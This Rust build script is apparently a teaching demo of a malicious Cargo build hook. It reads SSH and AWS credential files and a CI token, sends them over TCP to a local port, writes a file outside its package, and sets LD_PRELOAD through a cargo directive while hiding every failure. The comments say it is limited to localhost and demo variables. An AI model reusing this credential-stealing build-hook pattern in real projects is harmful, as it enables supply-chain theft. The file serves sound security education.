//! THE BAD EXAMPLE. Everything below is what a build script should not do, and what real ones did.
//!
//! The library is three honest lines of code; nobody would look here. Each attempt stands for one
//! that was found in malicious packages. All errors are swallowed, so that a build in which nothing
//! worked looks exactly like one in which everything did: it ends with success either way.
//!
//! It is harmless. It reads nothing but what `buildperm demo` planted in a temporary home, talks to
//! nobody but a port of this machine that the demo opened, and leaves one text file in this workspace.
//! Without the demo's variables it does not look for credentials at all.

use std::io::Write;
use std::net::{Ipv4Addr, TcpStream};
use std::path::{Path, PathBuf};
use std::time::Duration;
use std::{env, fs};

/// The home that the demo planted, put in when this script is *compiled*: what the script gets to see
/// of the environment when it *runs* is decided by buildperm. A real thief needs neither; it asks the
/// password database where the user's home is.
const HOME: Option<&str> = option_env!("DEMO_HOME");

/// The port of 127.0.0.1 at which the demo listens for loot.
const PORT: Option<&str> = option_env!("DEMO_PORT");

fn main() {
    let mut loot = Vec::new();
    take_keys(&mut loot);
    take_token(&mut loot);
    let _ = send(&loot);
    let _ = leave_a_mark(loot.len());
    print_a_directive();
}

/// Reads keys, as the worm that spread through npm in 2025 did.
fn take_keys(loot: &mut Vec<u8>) {
    let Some(home) = HOME.map(Path::new) else {
        return;
    };
    for key in [".ssh/id_ed25519", ".aws/credentials"] {
        if let Ok(secret) = fs::read(home.join(key)) {
            loot.extend(secret);
        }
    }
}

/// Reads a token from the environment, where every CI service puts them.
fn take_token(loot: &mut Vec<u8>) {
    if let Ok(token) = env::var("DEMO_API_TOKEN") {
        loot.extend(token.into_bytes());
    }
}

/// Sends the loot off; to this very machine, in our case.
fn send(loot: &[u8]) -> Option<()> {
    let port: u16 = PORT?.parse().ok()?;
    let address = (Ipv4Addr::LOCALHOST, port).into();
    let mut stream = TcpStream::connect_timeout(&address, Duration::from_secs(2)).ok()?;
    stream.write_all(loot).ok()
}

/// Writes outside its own package; a real one would change a source file or a Git hook.
fn leave_a_mark(stolen: usize) -> Option<()> {
    let package = PathBuf::from(env::var_os("CARGO_MANIFEST_DIR")?);
    let mark = package.parent()?.join("left-padding-was-here.txt");
    let text = format!("A build script wrote this file. It got hold of {stolen} bytes.\n");
    fs::write(mark, text).ok()
}

/// Asks Cargo to load a library into the compiler, and so to run code outside of any sandbox around
/// this script. The library is a copy of one that the compiler loads anyway, hence without effect.
fn print_a_directive() {
    let Ok(out_dir) = env::var("OUT_DIR") else {
        return;
    };
    let library = Path::new(&out_dir).join("libpadding.so");
    let maps = fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let mut loaded = maps
        .lines()
        .filter_map(|line| line.split_whitespace().nth(5));
    if let Some(original) = loaded.find(|path| path.contains("libgcc_s")) {
        let _ = fs::copy(original, &library);
    }
    println!("cargo::rustc-env=LD_PRELOAD={}", library.display());
}
